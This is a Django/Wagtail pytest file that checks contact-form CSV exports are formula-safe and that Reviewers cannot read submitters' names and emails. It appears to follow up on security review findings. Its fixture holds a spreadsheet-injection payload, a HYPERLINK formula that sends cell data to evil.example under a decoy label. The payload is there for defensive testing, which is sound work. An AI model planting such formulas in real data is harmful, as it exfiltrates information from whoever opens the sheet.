"""The contact form's messages in the admin: Editors read and export them, formula-safe;
Reviewers, who can edit the contact page, cannot read them."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from wagtail.contrib.forms.models import FormSubmission

from toolkit.editorial.roles import EDITORS, REVIEWERS, setup_roles

pytestmark = pytest.mark.django_db

TRAP = '=HYPERLINK("https://evil.example/?"&A1,"Click for the agenda")'


def person(username, group_name):
    setup_roles()
    user = get_user_model().objects.create_user(username=username, password="not-a-real-password-1")
    user.groups.add(Group.objects.get(name=group_name))
    return user


@pytest.fixture
def message(site):
    return FormSubmission.objects.create(
        page=site.contact,
        form_data={"your_name": "Sam", "your_email_address": "sam@example.org", "your_message": TRAP},
    )


def test_an_editor_exports_messages_that_cannot_run_as_formulas(client, site, message):
    """Finding 5 of the security review: the export skipped the project's safe spreadsheet writer."""
    client.force_login(person("eden", EDITORS))
    response = client.get(f"/admin/forms/submissions/{site.contact.pk}/", {"export": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + TRAP in cells
    assert TRAP not in cells


def test_a_reviewer_cannot_read_or_export_the_messages(client, site, message):
    """Finding 12: Reviewers could read and export every contact message (names, emails)."""
    client.force_login(person("robin", REVIEWERS))
    assert client.get(f"/admin/pages/{site.contact.pk}/edit/").status_code == 200, "they still edit the page"
    for query in ({}, {"export": "csv"}):
        response = client.get(f"/admin/forms/submissions/{site.contact.pk}/", query)
        assert response.status_code in (302, 403)
        assert b"sam@example.org" not in response.content
    assert "sam@example.org" not in client.get("/admin/forms/").content.decode()
